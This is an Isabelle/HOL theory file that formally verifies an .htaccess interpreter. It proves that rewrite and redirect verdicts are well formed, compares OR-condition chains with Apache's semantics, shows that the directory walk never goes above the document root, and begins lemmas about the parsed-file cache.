(* ===== verification/Htaccess_Theorems.thy ===== *)
theory Htaccess_Theorems
  imports Htaccess Path_Laws
begin

text \<open>
  What the interpreter of \<^verbatim>\<open>.htaccess\<close> files guarantees: the shape of its verdicts, the meaning of condition chains, the walk
  up the directories, the cache of parsed files; and where it departs from Apache.
\<close>

named_theorems ht_ok \<open>well-formedness of parsed directives\<close>

section \<open>Well-formed configurations and verdicts\<close>

abbreviation redirect_range :: "int \<Rightarrow> bool" where
  "redirect_range n \<equiv> 300 \<le> n \<and> n < 400"

definition redirect_ok :: "HtRedirect \<Rightarrow> bool" where
  "redirect_ok rd \<longleftrightarrow> rd_Status rd = 410 \<or> redirect_range (rd_Status rd)"

definition rule_ok :: "HtRule \<Rightarrow> bool" where
  "rule_ok rl \<longleftrightarrow> f_Redirect (rl_Flags rl) = 0 \<or> redirect_range (f_Redirect (rl_Flags rl))"

definition config_ok :: "HtConfig \<Rightarrow> bool" where
  "config_ok cfg \<longleftrightarrow> list_all redirect_ok (hc_Redirects cfg) \<and> list_all rule_ok (hc_Rules cfg)"

definition clean_path :: "string \<Rightarrow> bool" where
  "clean_path p \<longleftrightarrow> is_rooted p \<and> Clean p = p"

text \<open>A verdict is one of: leave the request alone, answer 403 or 410, redirect, or go on with a rewritten path.\<close>

definition verdict_ok :: "htOutcome \<Rightarrow> bool" where
  "verdict_ok out \<longleftrightarrow>
     out_Status out = 0 \<and> out_Redirect out = [] \<and> (out_Path out = [] \<or> clean_path (out_Path out)) \<or>
     out_Status out \<in> {403, 410} \<and> out_Redirect out = [] \<and> out_Path out = [] \<or>
     redirect_range (out_Status out) \<and> out_Path out = []"

lemma redirect_code_range [ht_ok]: "redirect_range (redirect_code fl)"
  by (auto simp: redirect_code_def Let_def split: option.splits)

lemma rule_flag_range: "f_Redirect f = 0 \<or> redirect_range (f_Redirect f) \<Longrightarrow> f_Redirect (rule_flag fl f) = 0 \<or> redirect_range (f_Redirect (rule_flag fl f))"
  using redirect_code_range [of "TrimSpace fl"] by (simp add: rule_flag_def Let_def)

lemma fold_invariant: "P s \<Longrightarrow> (\<And>x s. x \<in> set xs \<Longrightarrow> P s \<Longrightarrow> P (f x s)) \<Longrightarrow> P (fold f xs s)"
  by (induction xs arbitrary: s) auto

lemma htParseRuleFlags_range [ht_ok]: "f_Redirect (htParseRuleFlags args) = 0 \<or> redirect_range (f_Redirect (htParseRuleFlags args))"
proof (cases args)
  case (Cons a as)
  show ?thesis unfolding Cons htParseRuleFlags_def list.case
    by (rule fold_invariant [where P = "\<lambda>f. f_Redirect f = 0 \<or> redirect_range (f_Redirect f)"]) (simp add: no_flags_def, rule rule_flag_range)
qed (simp add: htParseRuleFlags_def no_flags_def)

lemma redirect_status_range: "redirect_status st a = (status, i) \<Longrightarrow> redirect_range st \<Longrightarrow> status = 410 \<or> redirect_range status"
  by (auto simp: redirect_status_def Let_def split: option.splits if_splits)

lemma htParseRedirect_ok [ht_ok]: "htParseRedirect R dir args = Some rd \<Longrightarrow> redirect_ok rd"
  using redirect_status_range [of "if dir = ''redirectperm'' then 301 else 302" "hd args"]
  by (fastforce simp: htParseRedirect_def redirect_ok_def split: if_splits prod.splits list.splits)

lemma config_ok_upd [simp]:
  "config_ok (cfg\<lparr>hc_RewriteEngine := b\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_RewriteBase := s\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_DirectoryIndex := ss\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_ErrorDocuments := ed\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_DenyAll := b\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_FileDenies := fds\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_PHPExtensions := ss\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_DirectorySlashOff := b\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_Headers := hs\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_RequestHeaders := hs\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_Skipped := ss\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_Files := ss\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_Dir := s\<rparr>) = config_ok cfg"
  "config_ok (cfg\<lparr>hc_DirURL := s\<rparr>) = config_ok cfg"
  by (simp_all add: config_ok_def)

lemma config_ok_redirect: "config_ok cfg \<Longrightarrow> config_ok (cfg\<lparr>hc_Redirects := append_opt (htParseRedirect R dir args) (hc_Redirects cfg)\<rparr>)"
  by (auto simp: config_ok_def append_opt_def ht_ok split: option.splits)

lemma config_ok_rule:
  "config_ok cfg \<Longrightarrow> config_ok (cfg\<lparr>hc_Rules := hc_Rules cfg @ [r\<lparr>rl_Pattern := p, rl_Sub := s, rl_Flags := htParseRuleFlags args\<rparr>]\<rparr>)"
  using htParseRuleFlags_range [of args] by (simp add: config_ok_def rule_ok_def)

lemma config_ok_deny: "config_ok cfg \<Longrightarrow> config_ok (htDenyAll st cfg)"
  by (simp add: htDenyAll_def split: list.splits)

lemma hp_cfg_upd [simp]: "hp_cfg (upd_cfg f ps) = f (hp_cfg ps)"
  by (simp add: upd_cfg_def)

lemma directive_ok: "config_ok (hp_cfg ps) \<Longrightarrow> config_ok (hp_cfg (directive R name args ps))"
  unfolding directive_def Let_def
  by (auto simp: rewrite_rule_def Let_def intro: config_ok_redirect config_ok_rule config_ok_deny split: list.splits option.splits)

lemma parse_lines_ok: "config_ok (hp_cfg ps) \<Longrightarrow> config_ok (hp_cfg (parse_lines R ls ps))"
  by (induction R ls ps rule: parse_lines.induct) (auto simp: parse_lines.simps(2) Let_def directive_ok split: list.splits)

lemma empty_config_ok: "config_ok empty_config"
  by (simp add: config_ok_def empty_config_def)

lemma htParseFile_ok: "config_ok (htParseFile R content)"
  by (auto simp: htParseFile_def empty_config_ok intro: parse_lines_ok split: option.splits)

lemma merge_config_ok: "config_ok sub \<Longrightarrow> config_ok cfg \<Longrightarrow> config_ok (merge_config sub cfg)"
  by (simp add: config_ok_def merge_config_def)

lemma htParseDir_ok: "config_ok (htParseDir env root dir)"
  unfolding htParseDir_def
  by (auto simp: empty_config_ok htParseFile_ok merge_config_ok intro!: fold_invariant [where P = config_ok] split: list.splits)


lemma Clean_clean: "is_rooted p \<Longrightarrow> clean_path (Clean p)"
  using Clean_idem [of p] by (simp add: clean_path_def) (simp add: Clean_rooted HasPrefix_append [of "''/''", simplified])

lemma new_path_clean: "clean_path (new_path cfg p)"
  by (simp add: new_path_def Let_def Clean_clean HasPrefix_append [of "''/''", simplified])

lemma keep_groups_path [simp]: "x_path (keep_groups env r root c ctx) = x_path ctx" "x_query (keep_groups env r root c ctx) = x_query ctx"
  "x_ruleRefs (keep_groups env r root c ctx) = x_ruleRefs ctx"
  by (simp_all add: keep_groups_def split: option.splits)

lemma conds_pass_path [simp]:
  "x_path (snd (conds_pass env r root cs ctx)) = x_path ctx \<and> x_query (snd (conds_pass env r root cs ctx)) = x_query ctx
     \<and> x_ruleRefs (snd (conds_pass env r root cs ctx)) = x_ruleRefs ctx"
  by (induction env r root cs ctx rule: conds_pass.induct) (simp_all add: Let_def)

lemma verdict_ok_simps [simp]: "verdict_ok no_outcome" "verdict_ok (status_outcome 403)" "verdict_ok (status_outcome 410)"
  by (simp_all add: verdict_ok_def no_outcome_def)

lemma fire_rule_ok:
  assumes "rule_ok rule" "clean_path (x_path ctx)" "fire_rule env r root cfg rule ctx = ((res, done, matched), ctx')"
  shows "verdict_ok res \<and> clean_path (x_path ctx')"
  using assms by (auto simp: fire_rule_def Let_def rule_ok_def verdict_ok_def no_outcome_def new_path_clean split: if_splits option.splits prod.splits)

lemma htApplyRule_ok:
  assumes "rule_ok rule" "clean_path (x_path ctx)" "htApplyRule env r root cfg rule ctx = ((res, done, matched), ctx')"
  shows "verdict_ok res \<and> clean_path (x_path ctx')"
proof -
  obtain pass ctx1 where c: "conds_pass env r root (rl_Conds rule) ctx = (pass, ctx1)" by force
  then have p: "clean_path (x_path ctx1)" using assms(2) conds_pass_path [of env r root "rl_Conds rule" ctx] by simp
  show ?thesis
    using assms(3) p c fire_rule_ok [OF assms(1), where ctx = "ctx1\<lparr>x_ruleRefs := rr\<rparr>" for rr]
    by (auto simp: htApplyRule_def split: bool.splits option.splits)
qed

lemma run_rules_ok:
  assumes "list_all rule_ok rules" "clean_path (x_path ctx)"
  shows "case run_rules env r root cfg rules changed ctx of Inl res \<Rightarrow> verdict_ok res | Inr (_, _, ctx') \<Rightarrow> clean_path (x_path ctx')"
  using assms
proof (induction env r root cfg rules changed ctx rule: run_rules.induct)
  case (2 env r root cfg rule rules changed ctx)
  obtain res dn matched ctx1 where a: "htApplyRule env r root cfg rule ctx = ((res, dn, matched), ctx1)" by (metis prod_cases4 surj_pair)
  with 2 show ?case using htApplyRule_ok [of rule ctx env r root cfg res dn matched ctx1] by auto
qed simp

lemma run_passes_ok:
  assumes "list_all rule_ok (hc_Rules cfg)" "clean_path (x_path ctx)"
  shows "case run_passes n env r root cfg ctx of Inl res \<Rightarrow> verdict_ok res | Inr ctx' \<Rightarrow> clean_path (x_path ctx')"
  using assms
proof (induction n env r root cfg ctx rule: run_passes.induct)
  case (2 n env r root cfg ctx)
  with run_rules_ok [OF 2(2,3), of env r root cfg False] show ?case by (auto split: sum.splits prod.splits)
qed simp

lemma run_redirects_ok:
  assumes "list_all redirect_ok rds"
  shows "case run_redirects env r root p rds ctx of Inl res \<Rightarrow> verdict_ok res | Inr ctx' \<Rightarrow> x_path ctx' = x_path ctx"
  using assms
proof (induction env r root p rds ctx rule: run_redirects.induct)
  case (2 env r root p rd rds ctx)
  show ?case
  proof (cases "redirect_hit (he_re env) p rd ctx")
    case None
    with 2 show ?thesis by simp
  next
    case (Some ctx1)
    then show ?thesis using 2(2) by (auto simp: Let_def redirect_ok_def verdict_ok_def no_outcome_def)
  qed
qed simp

lemma verdict_ok_rewrite: "clean_path p \<Longrightarrow> verdict_ok (no_outcome\<lparr>out_Path := p, out_Query := q\<rparr>)"
  by (simp add: verdict_ok_def no_outcome_def)

lemma htEngine_ok:
  assumes "config_ok cfg" "clean_path p"
  shows "verdict_ok (htEngine env cfg r root p q)"
proof -
  let ?ctx = "\<lparr>x_path = p, x_query = q, x_ruleRefs = None, x_subRefs = None\<rparr>"
  have c: "list_all redirect_ok (hc_Redirects cfg)" "list_all rule_ok (hc_Rules cfg)" using assms(1) by (simp_all add: config_ok_def)
  note rd = run_redirects_ok [OF c(1), where env = env and r = r and root = root and p = p and ctx = ?ctx]
  have ps: "verdict_ok (case run_passes 10 env r root cfg ctx of Inl res \<Rightarrow> res
      | Inr ctx' \<Rightarrow> if x_path ctx' = p \<and> x_query ctx' = q then no_outcome else no_outcome\<lparr>out_Path := x_path ctx', out_Query := x_query ctx'\<rparr>)"
    if "x_path ctx = p" for ctx
    using run_passes_ok [OF c(2), of ctx 10 env r root] that assms(2) by (auto simp: verdict_ok_rewrite split: sum.splits)
  show ?thesis
  proof (cases "run_redirects env r root p (hc_Redirects cfg) ?ctx")
    case (Inl res)
    with rd show ?thesis by (simp add: htEngine_def)
  next
    case (Inr ctx)
    with rd ps [of ctx] show ?thesis by (simp add: htEngine_def)
  qed
qed

text \<open>C27: Whatever the \<open>.htaccess\<close> files of a site contain, the verdict on a request is well formed: it leaves the request alone,
  or answers 403 or 410, or redirects with a 3xx status, or goes on internally with an absolute, cleaned path; never two of
  these at once, and no status outside these ranges.\<close>

theorem rewrite_verdict_well_formed:
  "verdict_ok (htEngine env (htParseDir env root dir) r root' (Clean (''/'' @ urlPath)) query)"
  by (rule htEngine_ok [OF htParseDir_ok Clean_clean [OF HasPrefix_append]])


section \<open>An example site\<close>

text \<open>One file, \<open>/srv/w/.htaccess\<close>, with the given contents and modification time; the expressions match nothing.\<close>

definition ex_htaccess :: "gotime \<Rightarrow> string \<Rightarrow> HtEnv" where
  "ex_htaccess t content = \<lparr>he_re = \<lparr>re_compiles = (\<lambda>_. True), re_find = (\<lambda>_ _. None), re_replace = (\<lambda>_ s _. s)\<rparr>,
     he_stat = (\<lambda>p. if p = ''/srv/w/.htaccess'' then Some \<lparr>n_kind = Reg content, n_perm = 0, n_uid = 0, n_gid = 0, n_mtime = t\<rparr> else None),
     he_read = (\<lambda>p. if p = ''/srv/w/.htaccess'' then Some content else None), he_getenv = (\<lambda>_. [])\<rparr>"

definition ex_site_request :: "string \<Rightarrow> SiteRequest" where
  "ex_site_request p = \<lparr>rMethod = ''GET'', rHost = ''site.test'', rURL = \<lparr>uPath = p, uRawPath = [], uRawQuery = [], uForceQuery = False\<rparr>,
     rProto = ''HTTP/1.1'', rTLS = False, rRemoteAddr = ''192.0.2.7:1234'', rHeader = [], rContentLength = 0, rBody = [], rOrigURI = None\<rparr>"

definition ex_cond :: "string \<Rightarrow> bool \<Rightarrow> HtCond" where
  "ex_cond m orn = \<lparr>c_Test = ''%{REQUEST_METHOD}'', c_Pattern = m, c_NoCase = False, c_OrNext = orn, c_Lex = Some (CHR ''=''), c_LexNeg = False, c_FileTest = []\<rparr>"

definition ex_ctx :: htCtx where
  "ex_ctx = \<lparr>x_path = ''/'', x_query = [], x_ruleRefs = None, x_subRefs = None\<rparr>"

lemma ex_cond_holds: "htEvalCond (ex_htaccess 0 []) (ex_site_request ''/'') ''/srv/w'' ex_ctx (ex_cond m orn) \<longleftrightarrow> m = ''GET''"
  if "m \<in> {''GET'', ''PUT'', ''POST''}"
proof -
  have "htEvalCond (ex_htaccess 0 []) (ex_site_request ''/'') ''/srv/w'' ex_ctx (ex_cond ''GET'' b)"
    "\<not> htEvalCond (ex_htaccess 0 []) (ex_site_request ''/'') ''/srv/w'' ex_ctx (ex_cond ''PUT'' b)"
    "\<not> htEvalCond (ex_htaccess 0 []) (ex_site_request ''/'') ''/srv/w'' ex_ctx (ex_cond ''POST'' b)" for b
    by (cases b; code_simp)+
  with that show ?thesis by auto
qed

section \<open>Condition chains\<close>

text \<open>Apache's meaning of the \<open>OR\<close> flag: the conditions fall into groups, each up to and including the first condition without
  the flag, and a rule applies when every group has a condition that holds.\<close>

fun or_groups :: "HtCond list \<Rightarrow> HtCond list list" where
  "or_groups [] = []"
| "or_groups (c # cs) = (if c_OrNext c then (case or_groups cs of [] \<Rightarrow> [[c]] | g # gs \<Rightarrow> (c # g) # gs) else [c] # or_groups cs)"

definition groups_hold :: "(HtCond \<Rightarrow> bool) \<Rightarrow> HtCond list \<Rightarrow> bool" where
  "groups_hold holds cs = list_all (list_ex holds) (or_groups cs)"

lemma expand_test_cong: "x_ruleRefs ctx = x_ruleRefs ctx' \<Longrightarrow> expand_test var ctx s = expand_test var ctx' s"
proof (induction var ctx s rule: expand_test.induct)
  case (1 var ctx s)
  show ?case
  proof (cases s)
    case (Cons c rest)
    with 1 show ?thesis by (subst (1 2) expand_test.simps) (auto split: option.splits)
  qed (simp add: expand_test.simps)
qed

lemma htServerVar_cong: "x_path ctx = x_path ctx' \<Longrightarrow> x_query ctx = x_query ctx' \<Longrightarrow> htServerVar env r root ctx = htServerVar env r root ctx'"
  by (rule ext) (simp only: htServerVar_def)

lemma htEvalCond_keep: "htEvalCond env r root (keep_groups env r root d ctx) c = htEvalCond env r root ctx c"
proof -
  have "htExpand env r root (keep_groups env r root d ctx) s = htExpand env r root ctx s" for s
    unfolding htExpand_def using expand_test_cong [of "keep_groups env r root d ctx" ctx]
      htServerVar_cong [of "keep_groups env r root d ctx" ctx env r root] by simp
  then show ?thesis by (simp only: htEvalCond_def)
qed

lemma or_groups_Cons2: "or_groups (c # d # cs) = (if c_OrNext c then (c # hd (or_groups (d # cs))) # tl (or_groups (d # cs)) else [c] # or_groups (d # cs))"
  by (cases "or_groups (d # cs)") (auto split: list.splits if_splits)

lemma conds_pass_groups:
  "list_all (\<lambda>g. length g \<le> 2) (or_groups cs) \<Longrightarrow> fst (conds_pass env r root cs ctx) = groups_hold (htEvalCond env r root ctx) cs"
proof (induction env r root cs ctx rule: conds_pass.induct)
  case (3 env r root c d cs ctx)
  show ?case
  proof (cases "c_OrNext c")
    case True
    have d: "or_groups (d # cs) = [d] # or_groups cs"
    proof (cases "c_OrNext d \<and> or_groups cs \<noteq> []")
      case True
      then obtain g gs where g: "or_groups cs = g # gs" by (cases "or_groups cs") auto
      then have "g \<noteq> []" by (cases cs) (auto split: if_splits list.splits)
      with "3.prems" \<open>c_OrNext c\<close> True g show ?thesis by (cases g) auto
    qed (auto split: list.splits)
    then have g: "groups_hold holds (c # d # cs) \<longleftrightarrow> (holds c \<or> holds d) \<and> groups_hold holds cs" for holds
      using True by (simp add: groups_hold_def)
    have s: "list_all (\<lambda>g. length g \<le> 2) (or_groups cs)" using "3.prems" True d by simp
    show ?thesis using True g "3.IH"(1,2) s htEvalCond_keep by (auto simp: Let_def groups_hold_def)
  next
    case False
    then have g: "groups_hold holds (c # d # cs) \<longleftrightarrow> holds c \<and> groups_hold holds (d # cs)" for holds by (simp add: groups_hold_def)
    have s: "list_all (\<lambda>g. length g \<le> 2) (or_groups (d # cs))" using "3.prems" False by simp
    show ?thesis using False g "3.IH"(3) s htEvalCond_keep by (auto simp: Let_def groups_hold_def)
  qed
qed (auto simp: groups_hold_def Let_def)

text \<open>When no \<open>OR\<close> group has more than two conditions, the conditions of a rewrite rule mean what they mean to Apache: every
  group has a condition that holds.\<close>

theorem condition_pairs_as_apache:
  assumes "list_all (\<lambda>g. length g \<le> 2) (or_groups cs)"
  shows "fst (conds_pass env r root cs ctx) \<longleftrightarrow> groups_hold (htEvalCond env r root ctx) cs"
  by (rule conds_pass_groups [OF assms])

theorem condition_pairs_as_apache_witness:
  "list_all (\<lambda>g. length g \<le> 2) (or_groups [ex_cond ''PUT'' True, ex_cond ''GET'' False]) \<and>
   fst (conds_pass (ex_htaccess 0 []) (ex_site_request ''/'') ''/srv/w'' [ex_cond ''PUT'' True, ex_cond ''GET'' False] ex_ctx)"
proof -
  have g: "or_groups [ex_cond ''PUT'' True, ex_cond ''GET'' False] = [[ex_cond ''PUT'' True, ex_cond ''GET'' False]]"
    by (simp add: ex_cond_def)
  then show ?thesis using condition_pairs_as_apache [of "[ex_cond ''PUT'' True, ex_cond ''GET'' False]" "ex_htaccess 0 []" "ex_site_request ''/''" "''/srv/w''" ex_ctx]
    by (simp add: groups_hold_def ex_cond_holds)
qed

text \<open>A chain of three is not: the third condition is required, whether or not one of the first two holds.\<close>

theorem or_chain_of_three:
  assumes "c_OrNext a" "c_OrNext b"
  shows "(fst (conds_pass env r root [a, b, c] ctx) \<longleftrightarrow>
      (htEvalCond env r root ctx a \<or> htEvalCond env r root ctx b) \<and> htEvalCond env r root ctx c) \<and>
    (groups_hold (htEvalCond env r root ctx) [a, b, c] \<longleftrightarrow>
      htEvalCond env r root ctx a \<or> htEvalCond env r root ctx b \<or> htEvalCond env r root ctx c)"
  using assms by (auto simp: Let_def htEvalCond_keep groups_hold_def)


theorem or_chain_of_three_witness:
  "\<not> fst (conds_pass (ex_htaccess 0 []) (ex_site_request ''/'') ''/srv/w'' [ex_cond ''GET'' True, ex_cond ''PUT'' True, ex_cond ''POST'' False] ex_ctx) \<and>
   groups_hold (htEvalCond (ex_htaccess 0 []) (ex_site_request ''/'') ''/srv/w'' ex_ctx) [ex_cond ''GET'' True, ex_cond ''PUT'' True, ex_cond ''POST'' False]"
proof -
  have "c_OrNext (ex_cond m True)" for m by (simp add: ex_cond_def)
  from or_chain_of_three [OF this this, of "ex_htaccess 0 []" "ex_site_request ''/''" "''/srv/w''" "''GET''" "''PUT''" "ex_cond ''POST'' False" ex_ctx]
  show ?thesis by (simp add: ex_cond_holds)
qed

section \<open>The walk up the directories\<close>

lemma fold_push_mixed:
  "\<forall>x\<in>set cs. x = [] \<or> plain x \<Longrightarrow> fold (push_component rooted) cs stack = rev (filter (\<lambda>c. c \<noteq> []) cs) @ stack"
  by (induction cs arbitrary: stack) (auto simp: push_component_def plain_def)

lemma Join_parts:
  assumes "plains rs" "q \<noteq> []" "\<forall>x\<in>set (Split (CHR ''/'') q). x = [] \<or> plain x"
  shows "filepath_Join [path_text rs, q] = path_text (rs @ parts q)"
proof -
  have r: "is_rooted (path_text rs @ ''/'' @ q)" by (simp add: path_text_def HasPrefix_def)
  have "Split (CHR ''/'') (path_text rs @ ''/'' @ q) = Split (CHR ''/'') (path_text rs) @ Split (CHR ''/'') q"
    by (simp add: Split_append)
  moreover have "\<forall>x\<in>set (Split (CHR ''/'') (path_text rs)). x = [] \<or> plain x" using assms(1) by (auto simp: Split_text plains_def list_all_iff)
  moreover have "filter (\<lambda>c. c \<noteq> []) (Split (CHR ''/'') (path_text rs)) = rs" using parts_text [OF assms(1)] by (simp add: parts_def)
  ultimately have "components (path_text rs @ ''/'' @ q) = rs @ parts q"
    using r assms(3) by (simp add: clean_stack_def fold_push_mixed parts_def)
  then have "Clean (path_text rs @ ''/'' @ q) = path_text (rs @ parts q)" using r by (simp only: Clean_text)
  with assms(2) show ?thesis by (simp add: filepath_Join_def path_text_def)
qed

lemma Join_plain: "plains rs \<Longrightarrow> plain c \<Longrightarrow> filepath_Join [path_text rs, c] = path_text (rs @ [c])"
  using Join_parts [of rs c] by (simp add: Split_none plain_def parts_def)

lemma Join_path: "plains rs \<Longrightarrow> plains cs \<Longrightarrow> filepath_Join [path_text rs, path_text cs] = path_text (rs @ cs)"
proof -
  assume p: "plains rs" "plains cs"
  then have "\<forall>x\<in>set (Split (CHR ''/'') (path_text cs)). x = [] \<or> plain x" by (auto simp: Split_text plains_def list_all_iff)
  moreover have "path_text cs \<noteq> []" by (simp add: path_text_def)
  ultimately show ?thesis using Join_parts [OF p(1)] p(2) by simp
qed

lemma Clean_request: "Clean (''/'' @ u) = path_text (components (''/'' @ u))" "plains (components (''/'' @ u))"
  by (rule Clean_text [OF HasPrefix_append], rule plains_components [OF HasPrefix_append])

lemma ht_dir_for_text:
  assumes "plains rs"
  shows "ht_dir_for (path_text rs) u = path_text (rs @ butlast (components (''/'' @ u)))"
proof -
  let ?cs = "components (''/'' @ u)"
  have "path_Dir (Clean (''/'' @ u)) = path_text (butlast ?cs)"
  proof (cases "?cs" rule: rev_cases)
    case Nil
    then show ?thesis using Clean_of_text [of "[]"] by (simp only: Clean_request(1)) (simp add: path_text_def path_Dir_def)
  next
    case (snoc xs x)
    with Clean_request(2) [of u] path_Dir_text [of xs x] show ?thesis by (simp only: Clean_request(1)) simp
  qed
  moreover have "fold (\<lambda>seg dir. if seg = [] \<or> seg = ''.'' then dir else filepath_Join [dir, seg]) ds (path_text rs) = path_text (rs @ ds)"
    if "plains ds" "plains rs" for ds rs
    using that
  proof (induction ds arbitrary: rs)
    case (Cons d ds)
    then have "d \<noteq> []" "d \<noteq> ''.''" "plain d" by (simp_all add: plain_def)
    with Cons Join_plain [of rs d] show ?case by simp
  qed simp
  moreover have "plains (butlast ?cs)" using Clean_request(2) by (rule plains_butlast)
  ultimately show ?thesis using assms by (simp add: ht_dir_for_def Split_text)
qed

lemma path_text_less: "plain c \<Longrightarrow> length (path_text xs) < length (path_text (xs @ [c]))"
  by (cases "xs = []") (auto simp: path_text_def Join_snoc plain_def)

lemma path_text_prefix: "HasPrefix (path_text (rs @ ds)) (path_text rs)"
proof (induction ds rule: rev_induct)
  case (snoc d ds)
  have "\<exists>t. path_text ((rs @ ds) @ [d]) = path_text (rs @ ds) @ t"
    by (cases "rs @ ds = []") (auto simp: path_text_def Join_snoc simp del: append_is_Nil_conv append_assoc)
  with snoc show ?case by (auto simp: HasPrefix_iff)
qed (simp add: HasPrefix_iff)

lemma ht_chain_text:
  "plains (rs @ ds) \<Longrightarrow> ht_chain (path_text rs) (path_text (rs @ ds)) = map (\<lambda>k. path_text (rs @ take k ds)) (rev [0..<Suc (length ds)])"
proof (induction ds rule: rev_induct)
  case Nil
  then show ?case by (simp add: ht_chain.simps)
next
  case (snoc c ds)
  let ?d = "path_text (rs @ ds @ [c])"
  have p: "plains (rs @ ds)" "plain c" using snoc.prems by simp_all
  have l: "length (path_text (rs @ ds)) < length ?d" using path_text_less [OF p(2), of "rs @ ds"] by simp
  have "?d \<noteq> path_text rs" using components_text [of "rs @ ds @ [c]"] components_text [of rs] p by (metis append_self_conv append_is_Nil_conv not_Cons_self2 plains_simps(2) snoc.prems)
  moreover have "\<not> length ?d \<le> 1" using l by (auto simp: path_text_def)
  ultimately have "ht_chain (path_text rs) ?d = ?d # ht_chain (path_text rs) (path_text (rs @ ds))"
    using l path_Dir_text [of "rs @ ds" c] p path_text_prefix [of rs "ds @ [c]"] by (subst ht_chain.simps) (simp add: Let_def, auto)
  with snoc.IH [OF p(1)] show ?case by simp
qed

text \<open>C28: The loop that looks for \<open>.htaccess\<close> files ends, and for every request it visits exactly the directories from the one the
  requested name is in up to the document root, each once, deepest first; never a directory above the document root. The
  directory a request names itself is not among them.\<close>

theorem htaccess_walk:
  assumes "plains rs"
  shows "ht_chain (path_text rs) (ht_dir_for (path_text rs) urlPath) =
    map (\<lambda>k. path_text (rs @ take k (butlast (components (''/'' @ urlPath))))) (rev [0..<Suc (length (components (''/'' @ urlPath)) - 1)])"
  using assms ht_chain_text [of rs "butlast (components (''/'' @ urlPath))"] plains_butlast [OF Clean_request(2)]
  by (simp only: ht_dir_for_text length_butlast plains_simps)


theorem htaccess_walk_witness:
  "ht_chain (path_text [''srv'', ''w'']) (ht_dir_for (path_text [''srv'', ''w'']) ''/private/a/x.txt'') =
     [''/srv/w/private/a'', ''/srv/w/private'', ''/srv/w'']"
proof -
  have p: "plains [''srv'', ''w'']" "components (''/'' @ ''/private/a/x.txt'') = [''private'', ''a'', ''x.txt'']" by code_simp+
  show ?thesis unfolding htaccess_walk [OF p(1)] p(2) by (simp add: path_text_def)
qed

text \<open>A line that is one directive.\<close>

definition line_is :: "string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> bool" where
  "line_is l name args \<longleftrightarrow> TrimSpace l = l \<and> l \<noteq> [] \<and> \<not> HasPrefix l ''#'' \<and> \<not> HasSuffix l [backslash] \<and> htQuoteFields l = name # args"

lemma parse_line: "line_is l name args \<Longrightarrow> parse_lines R (l # ls) ps = parse_lines R ls (directive R name args ps)"
  by (cases ls) (simp_all add: line_is_def Let_def parse_lines.simps(2))

section \<open>The cache of parsed files\<close>

text \<open>The directory that governs a request, and the key it is cached under.\<close>

definition cache_key :: "string \<Rightarrow> string \<Rightarrow> string" where
  "cache_key root dir = root @ [CHR 0x00] @ dir"

text \<open>A run of lookups, each with the files as they are at that moment, starting with the given cache.\<close>

fun serve_configs :: "ht_cache \<Rightarrow> (HtEnv \<times> string \<times> string) list \<Rightarrow> HtConfig list" where
  "serve_configs cache [] = []"
| "serve_configs cache ((env, root, urlPath) # reqs) =
    (case htConfigFor env cache root urlPath of (cfg, cache') \<Rightarrow> cfg # serve_configs cache' reqs)"

text \<open>What a change of the files looks like from outside: the operating system gives a file that is changed another size or another
  modification time. Two moments at which a file has the same size and time are moments at which it has the same contents.\<close>

definition stamp_tells :: "HtEnv \<Rightarrow> HtEnv \<Rightarrow> bool" where
  "stamp_tells env env' \<longleftrightarrow> he_re env = he_re env' \<and> (\<forall>f st st'. he_stat env f = Some st \<longrightarrow> he_stat env' f = Some st' \<longrightarrow>
     node_size st = node_size st' \<longrightarrow> n_mtime st = n_mtime st' \<longrightarrow> he_read env f = he_read env' f \<and> (n_kind st = Dir \<longleftrightarrow> n_kind st' = Dir))"

text \<open>Names that the signature and the key of the cache can tell apart: no document root contains the character zero and no
  directory on the way to the document root a semicolon.\<close>

definition names_separate :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "names_separate root urlPath \<longleftrightarrow> CHR 0x00 \<notin> set root \<and>
     (\<forall>d\<in>set (ht_chain root (ht_dir_for root urlPath)). CHR '';'' \<notin> set (ht_file d))"

definition edits_visible :: "(HtEnv \<times> string \<times> string) set \<Rightarrow> bool" where
  "edits_visible S \<longleftrightarrow> (\<forall>(env, root, p)\<in>S. names_separate root p \<and> (\<forall>(env', _)\<in>S. stamp_tells env env'))"

text \<open>The signature can be read back: the numbers and the names in it are determined.\<close>

lemma decimal_value: "foldl (\<lambda>acc c. acc * 10 + (of_char c - 48)) 0 (decimal n) = n"
proof (induction n rule: decimal.induct)
  case (1 n)
  have "(of_char (digit n) :: nat) - 48 = n mod 10" by (simp add: digit_def)
  with 1 show ?case by (subst decimal.simps) (simp add: mult.commute)
qed

lemma decimal_no_sep: "c \<in> {CHR '':'', CHR '';'', CHR ''-''} \<Longrightarrow> c \<notin> set (decimal n)"
proof (induction n rule: decimal.induct)
  case (1 n)
  have "digit n \<notin> {CHR '':'', CHR '';'', CHR ''-''}"
  proof
    assume "digit n \<in> {CHR '':'', CHR '';'', CHR ''-''}"
    then have "(of_char (digit n) :: nat) \<in> {58, 59, 45}" by auto
    then show False by (simp add: digit_def) presburger
  qed
  with 1 show ?case by (subst decimal.simps) auto
qed

lemma decimal_int_no_sep: "c \<in> {CHR '':'', CHR '';''} \<Longrightarrow> c \<notin> set (decimal_int n)"
  using decimal_no_sep [of c] by (auto simp: decimal_int_def)

lemma decimal_int_inject: "decimal_int m = decimal_int n \<longleftrightarrow> m = n"
proof
  have d: "m = n" if "decimal m = decimal n" for m n using decimal_value that by metis
  have h: "decimal m \<noteq> ''-'' @ s" for m s using decimal_no_sep [of "CHR ''-''" m] by auto
  assume "decimal_int m = decimal_int n"
  then show "m = n" using h h [symmetric] d [of "nat (- m)" "nat (- n)"] d [of "nat m" "nat n"] by (auto simp: decimal_int_def split: if_splits)
qed simp

